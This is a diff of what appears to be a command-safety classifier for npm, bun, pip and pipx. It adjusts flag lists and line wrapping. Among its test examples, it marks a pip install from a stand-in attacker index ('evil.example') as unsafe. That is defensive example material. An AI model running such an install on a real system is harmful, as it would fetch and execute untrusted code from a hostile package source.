@@ -76,7 +76,7 @@ _NPM_INSTALL_VALUES = (f"{_NPM_COMMON_VALUES} --install-strategy --allow-directo
                        "--allow-remote --allow-scripts --min-release-age-exclude --cpu --os --libc --only")
 _npm_install = _install(_NPM_INSTALL_FLAGS, _NPM_INSTALL_VALUES, handler="npm_install",
                         mutate_flags=E("-g --global --location"), **_NPM_DANGER)
-_npm_remove = _install(f"{_NPM_COMMON} {_NPM_SAVE} --no-package-lock --package-lock-only --install-links",
+_npm_remove = _install(f"{_NPM_COMMON} {_NPM_SAVE} --no-package-lock --package-lock-only --install-links --production",
                        _NPM_COMMON_VALUES, mutate_flags=E("-g --global --location"), does="removes packages",
                        **_NPM_DANGER)
 _NPM_READ_FLAGS = (f"{_NPM_COMMON} -a --all -g --global --link --package-lock-only --install-links --expect-results "
@@ -231,12 +231,13 @@ _add("bun", Spec(operands="none", handler="yarn_script", flags=E("-v --version -
                                                         "--update-snapshots --silent --verbose --pass-with-no-tests "
                                                         "--randomize --concurrent --no-clear-screen"),
                                                 value_opts=E("-t --test-name-pattern --timeout --rerun-each --reporter "
-                                                             "--coverage-reporter --bail --seed --max-concurrency"),
-                                                load_flags=E("--preload -r --require --config -c --cwd --tsconfig-override "
-                                                             "--env-file"),
+                                                             "--coverage-reporter --seed --max-concurrency"),
+                                                load_flags=E("--preload -r --require --config -c --cwd "
+                                                             "--tsconfig-override --env-file"),
                                                 write_flags=E("--coverage-dir --reporter-outfile"))),
                                   ("run", Spec(category=TEST_BUILD, operands="none", handler="npm_run",
-                                               flags=E("--silent --if-present --bun -b --watch --hot --no-clear-screen"),
+                                               flags=E("--silent --if-present --bun -b --watch --hot "
+                                                       "--no-clear-screen"),
                                                value_opts=E("--filter -F"),
                                                load_flags=E("--preload -r --require --config -c --cwd --env-file "
                                                             "--tsconfig-override"),
@@ -327,7 +328,8 @@ PIP = Spec(operands="none", handler="package_globals", flags=E(_PIP_GENERAL), va
                      ("pip install --index-url http://evil.example/simple foo", "notsafe"),
                      ("pip --python /tmp/py install x", "notsafe"), ("pip show -f requests", "readonly safe")))
 _add("pip", PIP)
-_add("pipx", Spec(operands="none", subcommands=subs({}, ("run", Spec(operands="none", handler="npx", does="runs a package")),
+_add("pipx", Spec(operands="none", subcommands=subs({}, ("run", Spec(operands="none", handler="npx",
+                                                                     does="runs a package")),
                                                    ("list environment --version", _reader(
                                                        "-h --help --short --json --include-injected -v --verbose "
                                                        "-q --quiet --skip-maintenance", "--value")),
